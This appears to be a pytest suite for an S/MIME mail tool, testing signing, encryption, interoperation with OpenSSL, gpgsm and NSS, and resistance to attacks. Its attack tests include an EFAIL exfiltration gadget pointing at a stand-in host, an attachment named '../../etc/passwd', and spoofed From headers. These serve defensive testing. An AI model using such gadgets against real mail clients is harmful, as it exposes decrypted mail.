"""coffer mail: verdicts on foreign messages, interoperation with OpenSSL, GnuPG and NSS, attacks."""

import base64
import email.utils
import json
import os
import pathlib
import re
import resource
import shutil
import subprocess
import time

import pytest

from helpers import instance as instances

COFFER = instances.program("coffer")
DATA = pathlib.Path(__file__).resolve().parents[3] / "shared" / "data" / "smime-thunderbird"
needs_data = pytest.mark.skipif(not DATA.is_dir(), reason="no shared test messages beside the project")

OK, VERIFY, UNTRUSTED, PARTLY, NOT_SIGNED = 0, 5, 6, 7, 8
MESSAGE = (b"From: alice@example.org\r\nTo: bob@example.org\r\nSubject: hello\r\n"
           b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
           b"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
           b"Gr\xc3\xbc\xc3\x9fe \r\nFrom here\r\n--b\r\n"
           b"Content-Type: application/pdf; name=\"../../etc/passwd\"\r\n"
           b"Content-Transfer-Encoding: base64\r\n\r\nAAECAwQ=\r\n--b--\r\n")


def coffer(*args, stdin=b"", status=0):
    done = subprocess.run([COFFER, *map(str, args)], input=stdin, capture_output=True, timeout=120)
    assert done.returncode == status, (args, done.returncode, done.stderr[-2000:], done.stdout[-500:])
    return done.stdout


def openssl(*args, stdin=b"", status=0):
    done = subprocess.run(["openssl", *map(str, args)], input=stdin, capture_output=True, timeout=120)
    assert done.returncode == status, (args, done.stderr)
    return done.stdout


class People:
    """A root and certificates under it, made by OpenSSL: not our own issuer's."""

    def __init__(self, directory):
        self.dir = directory
        self.root = directory / "root.pem"
        openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
                "-keyout", directory / "root.key", "-out", self.root, "-subj", "/CN=Test Root",
                "-days", "30", "-addext", "keyUsage=critical,keyCertSign,cRLSign")

    def add(self, name, kind=("rsa:2048",), address=None, days="20", usage=None):
        """Key and certificate in one PEM file; returns its path. NAME.crt has the certificate alone."""
        d = self.dir
        ext = d / f"{name}.ext"
        ext.write_text(f"subjectAltName=email:{address or name + '@example.org'}\n"
                       "basicConstraints=CA:FALSE\nsubjectKeyIdentifier=hash\n"
                       f"keyUsage={usage or 'digitalSignature,keyEncipherment,keyAgreement'}\n"
                       "extendedKeyUsage=emailProtection\n")
        openssl("req", "-new", "-newkey", *kind, "-nodes", "-keyout", d / f"{name}.key",
                "-out", d / f"{name}.csr", "-subj", f"/CN={name}")
        openssl("x509", "-req", "-in", d / f"{name}.csr", "-CA", self.root, "-CAkey", d / "root.key",
                "-out", d / f"{name}.crt", "-days", days, "-extfile", ext, "-CAcreateserial")
        both = d / f"{name}.pem"
        both.write_bytes((d / f"{name}.key").read_bytes() + (d / f"{name}.crt").read_bytes())
        return both

    def crt(self, name):
        return self.dir / f"{name}.crt"


EC = ("ec", "-pkeyopt", "ec_paramgen_curve:P-256")


@pytest.fixture(scope="module")
def people(tmp_path_factory):
    made = People(tmp_path_factory.mktemp("people"))
    made.add("alice")
    made.add("bob")
    made.add("eve")
    made.add("carol", kind=EC)
    made.add("dave", kind=("ec", "-pkeyopt", "ec_paramgen_curve:P-384"))
    return made


# ---- Verdicts on Thunderbird's messages: which, and why --------------------------------------------


def expected(name):
    """(status, envelopes, states of the signatures) from what ORIGIN.txt says a name means."""
    envelopes = name.count(".env")
    if ".bad." in name or "mismatch-econtent" in name:
        return "broken", envelopes
    if re.match(r"alice\.env\.dsig\.SHA\d+\.multipart\.eml$", name):
        return "broken", envelopes  # altered on the way; OpenSSL says so too
    if ".sig." not in name and ".dsig." not in name:
        return "good", envelopes
    if re.match(r"alice\.env\.d?sig\.", name):
        return "partly-signed", envelopes  # signed around the envelope: says nothing of what is inside
    if ".future." in name:
        return "untrusted", envelopes  # its Date is six hours behind the signing time: sent anew?
    if "SHA1" in name:
        return "untrusted", envelopes  # SHA-1 doesn't count as a signature any more
    return "good", envelopes


@pytest.fixture(scope="module")
def bob_tb(tmp_path_factory):
    path = tmp_path_factory.mktemp("tb")
    (path / "pass").write_text("nss\n")
    os.chmod(path / "pass", 0o600)
    return path / "pass"


@needs_data
@pytest.mark.parametrize("name", sorted(p.name for p in DATA.glob("*.eml")) if DATA.is_dir() else [])
def test_mail__verdict_on_thunderbirds_messages(bob_tb, name):
    status, envelopes = expected(name)
    done = subprocess.run([COFFER, "mail", "verify", "--json", "--root", DATA / "TestCA.pem", "--key",
                           DATA / "Bob.p12", "--passphrase-file", bob_tb, DATA / name],
                          capture_output=True, timeout=60)
    verdict = json.loads(done.stdout)
    assert verdict["status"] == status, verdict
    assert len(verdict["envelopes"]) == envelopes
    signed = ".sig." in name or ".dsig." in name
    assert bool(verdict["signatures"]) == signed
    assert done.returncode == {"broken": VERIFY, "untrusted": UNTRUSTED, "partly-signed": PARTLY}.get(
        status, OK if signed else NOT_SIGNED)
    if "mismatch-econtent" in name:
        assert "econtent-differs" in verdict["problems"]
    assert ("date-differs" in verdict["problems"]) == (".future." in name)
    if ".dave." in name:  # two signers, one inside the other: only Alice is the sender
        matches = sorted(s["match"] for g in verdict["signatures"] for s in g["signers"])
        assert matches == ["from", "none"]


# ---- Both ways with other programs -----------------------------------------------------------------


@pytest.mark.parametrize("who", ["alice", "carol", "dave"])
@pytest.mark.parametrize("form", [[], ["--opaque"], ["--digest", "sha512"]])
def test_mail__openssl_verifies_what_we_sign(people, tmp_path, who, form):
    message = MESSAGE.replace(b"alice@", who.encode() + b"@")
    signed = coffer("mail", "sign", "--key", people.dir / f"{who}.pem", *form, stdin=message)
    (tmp_path / "s.eml").write_bytes(signed)
    content = openssl("cms", "-verify", "-in", tmp_path / "s.eml", "-CAfile", people.root)
    assert b"Gr=C3=BC=C3=9Fe=20\n=46rom here" in content.replace(b"\r\n", b"\n")  # 7-bit before it was signed
    verdict = json.loads(coffer("mail", "verify", "--json", "--root", people.root, tmp_path / "s.eml"))
    assert verdict["status"] == "good" and verdict["problems"] == []
    assert verdict["signatures"][0]["whole_message"]


@pytest.mark.parametrize("how", [[], ["-nodetach"], ["-md", "sha384"],
                                 ["-keyopt", "rsa_padding_mode:pss"], ["-keyid"], ["-noattr"]])
def test_mail__we_verify_what_openssl_signs(people, tmp_path, how):
    entity = b"Content-Type: text/plain\r\n\r\nhello\r\n"
    signed = openssl("cms", "-sign", "-signer", people.dir / "alice.pem", "-crlfeol", *how, stdin=entity)
    (tmp_path / "s.eml").write_bytes(b"From: alice@example.org\r\n" + signed)
    verdict = json.loads(coffer("mail", "verify", "--json", "--root", people.root, tmp_path / "s.eml"))
    assert verdict["status"] == "good", verdict


@pytest.mark.parametrize("how", [[], ["--cipher", "aes256-gcm"], ["--cipher", "des3"], ["--oaep"],
                                 ["--cipher", "aes128-cbc"]])
@pytest.mark.parametrize("who", ["bob", "carol", "dave"])
def test_mail__openssl_opens_what_we_encrypt(people, tmp_path, how, who):
    sealed = coffer("mail", "encrypt", "--to", people.crt("bob"), "--to", people.crt("carol"), "--to",
                    people.crt("dave"), *how, stdin=MESSAGE)
    (tmp_path / "e.eml").write_bytes(sealed)
    plain = openssl("cms", "-decrypt", "-in", tmp_path / "e.eml", "-recip", people.crt(who), "-inkey",
                    people.dir / f"{who}.key", "-binary")
    assert plain.startswith(b"Content-Type: multipart/mixed; boundary=b\r\n")
    ours = coffer("mail", "decrypt", "--key", people.dir / f"{who}.pem", tmp_path / "e.eml")
    assert ours.endswith(plain)
    assert ours.startswith(b"From: alice@example.org\r\nTo: bob@example.org\r\nSubject: hello\r\n")


@pytest.mark.parametrize("cipher", ["-aes-256-cbc", "-aes-192-cbc", "-aes-128-cbc", "-des3",
                                    "-aes-256-gcm", "-aes-128-gcm"])
@pytest.mark.parametrize("how", [[], ["-keyid"], ["-stream", "-indef"], ["oaep"]])
def test_mail__we_open_what_openssl_encrypts(people, tmp_path, cipher, how):
    for who in ("bob", "carol"):
        keyopt = ["-keyopt", "rsa_padding_mode:oaep"] if how == ["oaep"] and who == "bob" else []
        rest = [] if how == ["oaep"] else how
        sealed = openssl("cms", "-encrypt", cipher, *rest, "-recip", people.crt(who), *keyopt,
                         "-binary", stdin=b"Content-Type: text/plain\r\n\r\nhello\r\n" * 200)
        message = b"From: alice@example.org\r\n" + sealed
        plain = coffer("mail", "decrypt", "--key", people.dir / f"{who}.pem", stdin=message)
        assert plain.count(b"hello\r\n") == 200


# All that gpgsm 2.2.40 knows. It has no OAEP ("No secret key") and no AuthEnvelopedData ("Buffer too
# short"), can't encrypt to a key on a curve and crashes when it is to import one.
GPGSM_READS = ("aes256-cbc", "aes128-cbc", "des3")


@pytest.mark.skipif(not shutil.which("gpgsm"), reason="no gpgsm")
def test_mail__gpgsm_reads_and_is_read(people, tmp_path):
    home = tmp_path / "gnupg"
    home.mkdir(mode=0o700)
    env = dict(os.environ, GNUPGHOME=str(home))
    openssl("pkcs12", "-export", "-in", people.dir / "bob.pem", "-out", tmp_path / "bob.p12", "-passout",
            "pass:x", "-legacy")
    (home / "gpgsm.conf").write_text("disable-crl-checks\n")
    (home / "gpg-agent.conf").write_text("allow-preset-passphrase\nallow-loopback-pinentry\n")
    fingerprint = openssl("x509", "-in", people.root, "-noout", "-fingerprint", "-sha1").decode()
    (home / "trustlist.txt").write_text(fingerprint.split("=")[1].strip() + " S relax\n")

    def gpgsm(*args, stdin=b""):
        done = subprocess.run(["gpgsm", "--batch", "--pinentry-mode", "loopback", "--passphrase-fd",
                               "0", *map(str, args)], input=b"x\n" + stdin, capture_output=True,
                              env=env, timeout=60)
        return done

    try:
        subprocess.run(["gpgsm", "--batch", "--import", str(people.root)], env=env, check=True,
                       capture_output=True)
        assert gpgsm("--import", tmp_path / "bob.p12").returncode == 0
        for how in GPGSM_READS:
            sealed = coffer("mail", "encrypt", "--to", people.crt("bob"), "--cipher", *how.split(),
                            stdin=MESSAGE)
            (tmp_path / "e.der").write_bytes(base64.b64decode(sealed.split(b"\r\n\r\n", 1)[1]))
            done = gpgsm("--decrypt", "--yes", "--output", tmp_path / "plain", tmp_path / "e.der")
            assert done.returncode == 0, (how, done.stderr)
            assert b"multipart/mixed" in (tmp_path / "plain").read_bytes()
            (tmp_path / "plain").unlink()
        (tmp_path / "in").write_bytes(b"Content-Type: text/plain\r\n\r\nfrom gpgsm\r\n")
        done = subprocess.run(["gpgsm", "--batch", "--encrypt", "--recipient",
                               "bob@example.org", "--output", str(tmp_path / "g.der"),
                               str(tmp_path / "in")], env=env, capture_output=True)
        assert done.returncode == 0, done.stderr
        message = (b"From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\n"
                   b"Content-Transfer-Encoding: base64\r\n\r\n"
                   + base64.encodebytes((tmp_path / "g.der").read_bytes()))
        assert b"from gpgsm" in coffer("mail", "decrypt", "--key", people.dir / "bob.pem", stdin=message)
        signed = coffer("mail", "sign", "--key", people.dir / "bob.pem", "--opaque", stdin=MESSAGE)
        (tmp_path / "s.der").write_bytes(base64.b64decode(signed.split(b"\r\n\r\n", 1)[1]))
        done = gpgsm("--verify", tmp_path / "s.der")
        assert done.returncode == 0 and b"Good signature from" in done.stderr, done.stderr
        done = gpgsm("--sign", "--output", tmp_path / "gs.der", tmp_path / "in")
        assert done.returncode == 0, done.stderr
        message = (b"From: bob@example.org\r\nContent-Type: application/pkcs7-mime; smime-type=signed-data\r\n"
                   b"Content-Transfer-Encoding: base64\r\n\r\n"
                   + base64.encodebytes((tmp_path / "gs.der").read_bytes()))
        assert b"Signed by the sender" in coffer("mail", "verify", "--root", people.root, stdin=message)
    finally:
        subprocess.run(["gpgconf", "--kill", "all"], env=env, capture_output=True)


@pytest.fixture(scope="module")
def nss(people, tmp_path_factory):
    """A database of NSS with Alice's, Bob's and Carol's keys; runs cmsutil."""
    path = tmp_path_factory.mktemp("nss")
    db = f"sql:{path}"
    subprocess.run(["certutil", "-N", "-d", db, "--empty-password"], check=True, capture_output=True)
    subprocess.run(["certutil", "-A", "-d", db, "-n", "root", "-t", "TC,TC,TC", "-i", str(people.root)],
                   check=True, capture_output=True)
    for who in ("alice", "bob", "carol", "dave"):
        openssl("pkcs12", "-export", "-in", people.dir / f"{who}.pem", "-out", path / f"{who}.p12",
                "-passout", "pass:x", "-name", who)
        subprocess.run(["pk12util", "-i", str(path / f"{who}.p12"), "-d", db, "-W", "x", "-K", ""],
                       check=True, capture_output=True)

    def run(*args, stdin):
        (path / "in").write_bytes(stdin)
        done = subprocess.run(["cmsutil", *args, "-d", db, "-i", str(path / "in")], capture_output=True,
                              timeout=60)
        assert done.returncode == 0, (args, done.stderr)
        return done.stdout
    return run


def cms_of(message):
    return base64.b64decode(message.split(b"\r\n\r\n", 1)[1])


needs_nss = pytest.mark.skipif(not shutil.which("cmsutil"), reason="no NSS tools")


@needs_nss
@pytest.mark.parametrize("cipher", ["aes256-cbc", "aes128-cbc", "des3"])
def test_mail__nss_opens_what_we_encrypt(people, nss, cipher):
    """To RSA keys: Debian's NSS has no ECDH recipients, no GCM and no OAEP in CMS."""
    sealed = coffer("mail", "encrypt", "--cipher", cipher, "--to", people.crt("bob"), stdin=MESSAGE)
    assert b"multipart/mixed" in nss("-D", stdin=cms_of(sealed))


@needs_nss
@pytest.mark.parametrize("who", ["alice", "carol", "dave"])
@pytest.mark.parametrize("digest", ["sha256", "sha384", "sha512"])
def test_mail__nss_verifies_what_we_sign(people, nss, who, digest):
    signed = coffer("mail", "sign", "--opaque", "--digest", digest, "--key", people.dir / f"{who}.pem",
                    stdin=MESSAGE)
    assert b"multipart/mixed" in nss("-D", stdin=cms_of(signed))


@needs_nss
@pytest.mark.parametrize("who", ["alice", "carol", "dave"])
@pytest.mark.parametrize("digest", ["SHA256", "SHA384", "SHA512"])
def test_mail__we_verify_what_nss_signs(people, nss, who, digest):
    signed = nss("-S", "-N", who, "-H", digest, stdin=b"Content-Type: text/plain\r\n\r\nfrom NSS\r\n")
    message = (f"From: {who}@example.org\r\nContent-Type: application/pkcs7-mime; name=smime.p7m\r\n"
               "Content-Transfer-Encoding: base64\r\n\r\n").encode() + base64.encodebytes(signed)
    assert verify(people, message, status=OK)["status"] == "good"


@needs_nss
def test_mail__we_open_what_nss_encrypts(people, nss):
    sealed = nss("-E", "-r", "bob@example.org", stdin=b"Content-Type: text/plain\r\n\r\nfrom NSS\r\n")
    message = (b"From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\n"
               b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(sealed))
    assert b"from NSS" in coffer("mail", "decrypt", "--key", people.dir / "bob.pem", stdin=message)


# ---- Header protection -------------------------------------------------------------------------------


def test_mail__a_protected_subject_is_hidden_outside_and_shown_to_the_recipient(people, tmp_path):
    sealed = coffer("mail", "encrypt", "--key", people.dir / "alice.pem", "--to", people.crt("bob"),
                    "--protect-headers", "baseline", stdin=MESSAGE)
    assert b"\r\nSubject: [...]\r\n" in sealed and b"hello" not in sealed
    (tmp_path / "e.eml").write_bytes(sealed)
    inner = openssl("cms", "-decrypt", "-in", tmp_path / "e.eml", "-recip", people.crt("bob"), "-inkey",
                    people.dir / "bob.key", "-binary")
    (tmp_path / "s.eml").write_bytes(inner)
    payload = openssl("cms", "-verify", "-in", tmp_path / "s.eml", "-CAfile", people.root)
    assert b"Subject: hello\r\n" in payload and b"HP-Outer: Subject: [...]\r\n" in payload
    assert b'hp="cipher"' in payload and b"hp-legacy-display" in payload
    keys = ("--key", people.dir / "bob.pem", "--root", people.root)
    shown = coffer("mail", "show", *keys, tmp_path / "e.eml").decode()
    assert "Subject: hello\n" in shown and shown.count("hello") == 1
    assert b"\r\nSubject: hello\r\n" in coffer("mail", "decrypt", *keys, tmp_path / "e.eml")
    forged = sealed.replace(b"To: bob@", b"To: eve@")
    verdict = verify(people, forged, *keys[:2], status=OK)
    assert [f["name"] for f in verdict["header"]["fields"] if f["differs"]] == ["To"]
    assert {f["name"]: f["protection"] for f in verdict["header"]["fields"]} == {
        "From": "signed", "To": "signed", "Subject": "signed-and-encrypted"}


# ---- The story of lost attachments -----------------------------------------------------------------


def test_mail__signed_and_encrypted_keeps_every_attachment(people, tmp_path):
    sealed = coffer("mail", "encrypt", "--key", people.dir / "alice.pem", "--to", people.crt("bob"),
                    "--opaque", stdin=MESSAGE)
    out = json.loads(coffer("mail", "extract", "--json", "--dir", tmp_path / "parts", "--key",
                            people.dir / "bob.pem", "--root", people.root, stdin=sealed))
    assert out["status"] == "good"
    files = sorted(os.listdir(tmp_path / "parts"))
    assert len(files) == 2 and all("/" not in f and not f.startswith(".") for f in files)
    contents = {(tmp_path / "parts" / f).read_bytes() for f in files}
    assert contents == {b"\x00\x01\x02\x03\x04", "Grüße \r\nFrom here".encode()}
    assert not os.path.exists("/etc/passwd-coffer") and any(f.endswith("-passwd") for f in files)


def test_mail__two_attachments_of_one_name_never_mix(people, tmp_path):
    for content in (b"AAAA", b"BBBB"):
        message = MESSAGE.replace(b"AAECAwQ=", content)
        coffer("mail", "extract", "--dir", tmp_path / "parts", stdin=message)
    files = [f for f in os.listdir(tmp_path / "parts") if f.endswith("-passwd")]
    assert len(files) == 2


def test_mail__a_former_key_opens_old_mail(people):
    sealed = coffer("mail", "encrypt", "--to", people.crt("bob"), stdin=MESSAGE)
    plain = coffer("mail", "decrypt", "--key", people.dir / "carol.pem", "--key",
                   people.dir / "bob.pem", stdin=sealed)
    assert b"multipart/mixed" in plain


def test_mail__several_key_files_share_one_passphrase_from_standard_input(people, tmp_path):
    for who in ("bob", "carol"):
        openssl("pkcs12", "-export", "-in", people.dir / f"{who}.pem", "-out", tmp_path / f"{who}.p12",
                "-passout", "pass:correct")
    (tmp_path / "e.eml").write_bytes(coffer("mail", "encrypt", "--to", people.crt("carol"), stdin=MESSAGE))
    plain = coffer("mail", "decrypt", "--key", tmp_path / "bob.p12", "--key", tmp_path / "carol.p12",
                   "--passphrase-file", "-", tmp_path / "e.eml", stdin=b"correct\n")
    assert b"multipart/mixed" in plain


# ---- Attacks ---------------------------------------------------------------------------------------


def verify(people, message, *more, status):
    return json.loads(coffer("mail", "verify", "--json", "--root", people.root, *more, stdin=message,
                             status=status))


def test_mail__an_altered_body_is_seen(people):
    signed = coffer("mail", "sign", "--key", people.dir / "alice.pem", stdin=MESSAGE)
    assert verify(people, signed.replace(b"hello", b"hallo"), status=OK)  # the outer header isn't signed
    verdict = verify(people, signed.replace(b"AAECAwQ=", b"AAECAwU="), status=VERIFY)
    assert verdict["signatures"][0]["signers"][0]["state"] == "altered"


@pytest.mark.parametrize("text, problem", [(b"Gr\xc3\xbc\xc3\x9fe\r\n", True), (b"Greetings\r\n", False)])
def test_mail__says_what_would_break_in_transit(people, text, problem):
    entity = b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + text
    signed = openssl("cms", "-sign", "-binary", "-signer", people.dir / "alice.pem", stdin=entity)
    signed = signed.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    verdict = verify(people, b"From: alice@example.org\r\n" + signed, status=OK)
    assert ("8bit-signed" in verdict["problems"]) == problem


@pytest.mark.parametrize("header", [
    b"From: alice@example.org, eve@example.org\r\n",
    b"From: alice@example.org\r\nFrom: eve@example.org\r\n",
    b"From: alice@example.org <eve@example.org>\r\n",
    b"From: \"alice@example.org\" <eve@example.org>\r\n",
    b"From: eve@example.org (alice@example.org)\r\n",
    b"From: eve@example.org <alice@example.org\r\n",
    b"From: undisclosed:alice@example.org,eve@example.org;\r\n",
    b"Subject: no from at all\r\n",
])
def test_mail__johnny_is_not_alice(people, header):
    """Several From, names that look like addresses, broken ones: never 'signed by the sender'."""
    signed = coffer("mail", "sign", "--key", people.dir / "alice.pem", stdin=MESSAGE)
    forged = header + signed.split(b"\r\n", 1)[1]
    verdict = verify(people, forged, status=UNTRUSTED)
    assert [s["match"] for s in verdict["signatures"][0]["signers"]] == ["none"]


def test_mail__eves_certificate_with_alices_name_is_not_alice(people):
    people.add("mallory", address="mallory@example.org")
    signed = coffer("mail", "sign", "--key", people.dir / "mallory.pem", stdin=MESSAGE)
    assert verify(people, signed, status=UNTRUSTED)["signatures"][0]["signers"][0]["match"] == "none"


def test_mail__an_unknown_root_is_not_trusted(people, tmp_path):
    other = People(tmp_path)
    other.add("alice")
    signed = coffer("mail", "sign", "--key", tmp_path / "alice.pem", stdin=MESSAGE)
    verdict = verify(people, signed, status=UNTRUSTED)
    assert verdict["signatures"][0]["signers"][0]["trust"] == "unknown"


def test_mail__a_signature_inside_an_attachment_does_not_sign_the_message(people):
    signed = coffer("mail", "sign", "--key", people.dir / "alice.pem", stdin=MESSAGE)
    wrapped = (b"From: alice@example.org\r\nContent-Type: multipart/mixed; boundary=outer\r\n\r\n"
               b"--outer\r\nContent-Type: text/plain\r\n\r\nSend money.\r\n--outer\r\n"
               b"Content-Type: message/rfc822\r\n\r\n" + signed + b"\r\n--outer--\r\n")
    verdict = verify(people, wrapped, status=PARTLY)
    assert "partial-signature" in verdict["problems"]
    plain = [p for p in verdict["parts"] if p["path"] == "1.1"][0]
    assert plain["signature"] is None


def efail(people, how):
    """A gadget message: an encrypted part between clear ones, to be joined by a careless reader."""
    sealed = coffer("mail", "encrypt", "--to", people.crt("bob"), stdin=MESSAGE)
    part = sealed.split(b"MIME-Version: 1.0\r\n", 1)[1]
    return (b"From: eve@example.org\r\nContent-Type: multipart/" + how + b"; boundary=x\r\n\r\n"
            b"--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--x\r\n" + part +
            b"\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n")


@pytest.mark.parametrize("how", [b"mixed", b"alternative", b"related"])
def test_mail__efail_direct_exfiltration_finds_nothing_decrypted(people, tmp_path, how):
    message = efail(people, how)
    verdict = verify(people, message, "--key", people.dir / "bob.pem", status=NOT_SIGNED)
    assert verdict["envelopes"] == [] and "nested-envelope" in verdict["problems"]
    coffer("mail", "decrypt", "--key", people.dir / "bob.pem", stdin=message, status=2)
    coffer("mail", "extract", "--dir", tmp_path / "x", "--key", people.dir / "bob.pem", stdin=message)
    assert all(b"From here" not in (tmp_path / "x" / f).read_bytes() for f in os.listdir(tmp_path / "x"))


def test_mail__cbc_says_that_it_has_no_integrity(people):
    sealed = coffer("mail", "encrypt", "--to", people.crt("bob"), stdin=MESSAGE)
    key = people.dir / "bob.pem"
    assert "no-integrity" in verify(people, sealed, "--key", key, status=NOT_SIGNED)["problems"]
    gcm = coffer("mail", "encrypt", "--cipher", "aes256-gcm", "--to", people.crt("bob"), stdin=MESSAGE)
    assert "no-integrity" not in verify(people, gcm, "--key", key, status=NOT_SIGNED)["problems"]


def flip(message, at):
    """Changes one byte of the CMS inside a message made of a header and base64."""
    head, body = message.split(b"\r\n\r\n", 1)
    der = bytearray(base64.b64decode(body))
    der[at] ^= 1
    return head + b"\r\n\r\n" + base64.encodebytes(bytes(der))


def test_mail__an_altered_gcm_message_gives_nothing(people):
    sealed = coffer("mail", "encrypt", "--cipher", "aes256-gcm", "--to", people.crt("bob"),
                    stdin=MESSAGE + b"x" * 300000)
    for at in (-200000, -40, -20):  # content, content's end, the tag
        assert coffer("mail", "decrypt", "--key", people.dir / "bob.pem", stdin=flip(sealed, at),
                      status=VERIFY) == b""


@pytest.mark.parametrize("size", [0, 3 << 20], ids=["small", "rubbish-longer-than-any-header"])
def test_mail__errors_of_decryption_are_all_the_same(people, size):
    """Wrong padding of the key, wrong key, altered ciphertext: one text, one status."""
    sealed = coffer("mail", "encrypt", "--to", people.crt("bob"), stdin=MESSAGE + b"x" * size)
    der = base64.b64decode(sealed.split(b"\r\n\r\n", 1)[1])
    key_at = der.index(b"\x04\x82\x01\x00") + 4
    seen = set()
    for at in (key_at + 5, key_at + 200, len(der) - 29):  # the last: only the padding changes
        done = subprocess.run([COFFER, "mail", "decrypt", "--key", str(people.dir / "bob.pem")],
                              input=flip(sealed, at), capture_output=True)
        assert done.stdout == b""
        seen.add((done.returncode, done.stderr))
    assert len(seen) == 1 and seen.pop()[0] == VERIFY


def test_mail__not_for_us_and_no_key_are_said_clearly(people):
    sealed = coffer("mail", "encrypt", "--to", people.crt("bob"), stdin=MESSAGE)
    done = subprocess.run([COFFER, "mail", "decrypt", "--key", str(people.dir / "eve.pem")], input=sealed,
                          capture_output=True)
    assert done.returncode == 3 and b"not encrypted to any key here" in done.stderr
    done = subprocess.run([COFFER, "mail", "decrypt"], input=sealed, capture_output=True)
    assert done.returncode == 3 and b"--key" in done.stderr


@pytest.mark.parametrize("message", [
    b"",
    b"From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\n\r\n",
    b"From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\n"
    b"Content-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHA6CAMIACAQAx\r\n",
    b"From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\n"
    b"Content-Transfer-Encoding: base64\r\n\r\n" + b"MIAG" * 50000,
    b"From: a@example.org\r\nContent-Type: multipart/signed; boundary=b\r\n\r\n--b\r\n\r\nx\r\n--b\r\n"
    b"Content-Type: application/pkcs7-signature\r\n\r\nnot base64 at all\r\n--b--\r\n",
    b"\x00" * 100000,
    b"From: a@example.org\r\n\r\n" + b"x" * (1 << 20),
    b"A" * (300 << 10),
    b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(200)),
    b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\n" * 20000,
], ids=["empty", "no-body", "cut", "nested-ber", "no-signature", "nul", "long-line", "no-newline",
        "deep", "many"])
def test_mail__rubbish_is_refused_or_reported(people, message):
    for command in ("verify", "decrypt", "show"):
        done = subprocess.run([COFFER, "mail", command, "--key", str(people.dir / "bob.pem")],
                              input=message, capture_output=True, timeout=20)
        assert done.returncode in (0, 1, 2, 3, 5, 6, 7, 8), (command, done.returncode, done.stderr)


def test_mail__memory_stays_bounded(people, tmp_path):
    """60 MB through encryption, signature and back, with 24 MB for data."""
    big = tmp_path / "big.eml"
    with open(big, "wb") as f:
        f.write(b"From: alice@example.org\r\nContent-Type: application/octet-stream\r\n"
                b"Content-Transfer-Encoding: base64\r\n\r\n")
        line = base64.b64encode(bytes(range(57))) + b"\r\n"
        for _ in range(60 * 1024 * 1024 // len(line) // 1024):
            f.write(line * 1024)
    sealed = tmp_path / "sealed.eml"

    def limit():
        resource.setrlimit(resource.RLIMIT_DATA, (24 << 20, 24 << 20))

    sanitized = b"__asan_init" in pathlib.Path(COFFER).read_bytes()

    def bounded(*args, stdin, stdout):
        subprocess.run([COFFER, *map(str, args)], stdin=stdin, stdout=stdout, check=True,
                       preexec_fn=None if sanitized else limit)

    with open(big, "rb") as i, open(sealed, "wb") as o:
        bounded("mail", "encrypt", "--key", people.dir / "alice.pem", "--to", people.crt("bob"),
                stdin=i, stdout=o)
    with open(sealed, "rb") as i, open(tmp_path / "plain.eml", "wb") as o:
        bounded("mail", "decrypt", "--root", people.root, "--key", people.dir / "bob.pem",
                stdin=i, stdout=o)
    assert (tmp_path / "plain.eml").stat().st_size > big.stat().st_size


# ---- Revocation, dates ---------------------------------------------------------------------------------


def make_crl(people, path, entries, days=5):
    """A list of (serial hex, seconds since 1970, reason), signed by the root, by OpenSSL's ca."""
    index = path.with_suffix(".index")
    stamp = [time.strftime("%y%m%d%H%M%SZ", time.gmtime(t)) for _, t, _ in entries]
    index.write_text("".join(f"R\t491231235959Z\t{when},{reason}\t{serial}\tunknown\t/CN=x\n"
                             for (serial, _, reason), when in zip(entries, stamp)))
    conf = path.with_suffix(".cnf")
    conf.write_text(f"[ca]\ndefault_ca=d\n[d]\ndatabase={index}\ndefault_md=sha256\n"
                    f"default_crl_days={days}\n")
    openssl("ca", "-gencrl", "-config", conf, "-cert", people.root, "-keyfile", people.dir / "root.key",
            "-out", path)
    return path


def serial_of(people, who):
    return openssl("x509", "-in", people.crt(who), "-noout", "-serial").decode().strip().split("=")[1]


@pytest.mark.parametrize("before,reason,expected", [
    (+3600, "unspecified", "revoked"),       # an hour before it was signed
    (-3600, "superseded", "good"),           # after: what was signed until then is good
    (-3600, "keyCompromise", "revoked"),     # after, but somebody else may have had the key
    (None, "", "good"),
])
def test_mail__revocation_is_judged_at_the_signing_time(people, tmp_path, before, reason, expected):
    signed = coffer("mail", "sign", "--key", people.dir / "alice.pem", stdin=MESSAGE)
    serial = serial_of(people, "alice") if before is not None else "01"
    crl = make_crl(people, tmp_path / "root.crl", [(serial, time.time() - (before or 0), reason or "superseded")])
    verdict = verify(people, signed, "--crl", crl, status=OK if expected == "good" else UNTRUSTED)
    signer = verdict["signatures"][0]["signers"][0]
    assert signer["revocation"] == expected
    assert signer["trust"] == ("good" if expected == "good" else "revoked")


def test_mail__a_list_that_is_not_its_issuers_says_nothing(people, tmp_path):
    (tmp_path / "other").mkdir()
    other = People(tmp_path / "other")
    signed = coffer("mail", "sign", "--key", people.dir / "alice.pem", stdin=MESSAGE)
    forged = make_crl(other, tmp_path / "forged.crl", [(serial_of(people, "alice"), time.time() - 99, "keyCompromise")])
    verdict = verify(people, signed, "--crl", forged, status=OK)  # same name, another key
    assert verdict["signatures"][0]["signers"][0]["revocation"] == "unknown"


@pytest.mark.parametrize("date,status", [
    ("now", OK), ("hours", UNTRUSTED), ("Mon, 1 Jan 2001 00:00:00 +0000", UNTRUSTED), ("rubbish", OK)])
def test_mail__an_old_message_under_a_new_date_is_not_trusted(people, date, status):
    signed = coffer("mail", "sign", "--key", people.dir / "alice.pem", stdin=MESSAGE)
    if date in ("now", "hours"):
        date = email.utils.formatdate(time.time() + (7200 if date == "hours" else 600))
    verdict = verify(people, b"Date: " + date.encode() + b"\r\n" + signed, status=status)
